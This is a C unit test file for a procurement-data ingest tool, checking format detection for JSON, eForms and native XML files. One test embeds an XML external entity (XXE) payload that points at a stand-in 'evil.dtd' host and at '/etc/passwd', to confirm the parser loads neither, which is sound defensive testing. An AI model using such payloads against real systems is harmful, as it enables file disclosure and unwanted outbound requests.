/* test_ingest_detect.c - format detection from content (no database): the first
 * non-blank byte after an optional BOM, and the XML root element. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "ingest.h"

static char dir[64];

static int setup(void **state)
{
    (void)state;
    snprintf(dir, sizeof dir, "/tmp/pa_detect.XXXXXX");
    return mkdtemp(dir) ? 0 : -1;
}

static int teardown(void **state)
{
    char cmd[128];
    (void)state;
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
    return system(cmd) == 0 ? 0 : -1;
}

/* Writes n bytes to dir/name; returns the path in a static buffer. */
static const char *file_of(const char *name, const void *bytes, size_t n)
{
    static char path[128];
    FILE *f;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    f = fopen(path, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(bytes, 1, n, f), n);
    fclose(f);
    return path;
}

static int detect(const char *name, const char *text, size_t n, char fmt[16], err_t *e)
{
    return ingest_detect_format(file_of(name, text, n), fmt, e);
}

static void test_ingest_detect_json_after_bom_and_blanks(void **state)
{
    char fmt[16];
    err_t e;
    (void)state;
    assert_int_equal(detect("a.json", "{\"releases\":[]}", 15, fmt, &e), 0);
    assert_string_equal(fmt, "ocds");
    /* UTF-8 BOM (EF BB BF), then blanks, then '[' (a package wrapped in an array) */
    assert_int_equal(detect("b.json", "\xEF\xBB\xBF \r\n\t[{}]", 10, fmt, &e), 0);
    assert_string_equal(fmt, "ocds");
}

static void test_ingest_detect_rejects_empty_utf16_and_unknown(void **state)
{
    char fmt[16];
    err_t e;
    (void)state;
    assert_int_equal(detect("empty.json", "", 0, fmt, &e), ERR_BAD_INPUT);
    assert_non_null(strstr(e.msg, "empty file (0 bytes)"));
    assert_int_equal(detect("blank.json", " \n \n", 4, fmt, &e), ERR_BAD_INPUT);
    assert_non_null(strstr(e.msg, "only white space"));
    /* UTF-16 LE BOM FF FE */
    assert_int_equal(detect("u16.json", "\xFF\xFE{\0}\0", 6, fmt, &e), ERR_BAD_INPUT);
    assert_non_null(strstr(e.msg, "UTF-16"));
    assert_int_equal(detect("csv.txt", "ocid,id\n", 8, fmt, &e), ERR_BAD_INPUT);
    assert_non_null(strstr(e.msg, "0x6F")); /* 'o' */
}

static void test_ingest_detect_xml_by_root_element(void **state)
{
    static const char eforms[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- a comment first -->\n"
        "<urn:ContractNotice xmlns:urn=\"urn:oasis:names:specification:ubl:schema:xsd:ContractNotice-2\">"
        "</urn:ContractNotice>\n";
    static const char native[] = "<procurement/>\n";
    static const char other[] = "<html><body/></html>\n";
    static const char broken[] = "<not closed";
    char fmt[16];
    err_t e;
    (void)state;
    /* a namespace prefix on the root is ignored: the local name decides */
    assert_int_equal(detect("cn.xml", eforms, sizeof eforms - 1, fmt, &e), 0);
    assert_string_equal(fmt, "eforms");
    assert_int_equal(detect("p.xml", native, sizeof native - 1, fmt, &e), 0);
    assert_string_equal(fmt, "native");
    assert_int_equal(detect("h.xml", other, sizeof other - 1, fmt, &e), ERR_BAD_INPUT);
    assert_non_null(strstr(e.msg, "<html>"));
    assert_int_equal(detect("x.xml", broken, sizeof broken - 1, fmt, &e), ERR_BAD_INPUT);
}

static void test_ingest_detect_xml_never_loads_external_entities(void **state)
{
    /* An external DTD on the network: with XML_PARSE_NONET and no DTD loading the root is
     * still found and nothing is fetched (a fetch would fail or hang here). */
    static const char xxe[] =
        "<?xml version=\"1.0\"?>\n<!DOCTYPE ContractNotice SYSTEM \"http://192.0.2.1/evil.dtd\" "
        "[<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<ContractNotice>&x;</ContractNotice>\n";
    char fmt[16];
    err_t e;
    (void)state;
    assert_int_equal(detect("xxe.xml", xxe, sizeof xxe - 1, fmt, &e), 0);
    assert_string_equal(fmt, "eforms");
}

static void test_ingest_detect_missing_file_is_io(void **state)
{
    char fmt[16];
    err_t e;
    (void)state;
    assert_int_equal(ingest_detect_format("/nonexistent/procaudit.json", fmt, &e), ERR_IO);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ingest_detect_json_after_bom_and_blanks),
        cmocka_unit_test(test_ingest_detect_rejects_empty_utf16_and_unknown),
        cmocka_unit_test(test_ingest_detect_xml_by_root_element),
        cmocka_unit_test(test_ingest_detect_xml_never_loads_external_entities),
        cmocka_unit_test(test_ingest_detect_missing_file_is_io),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
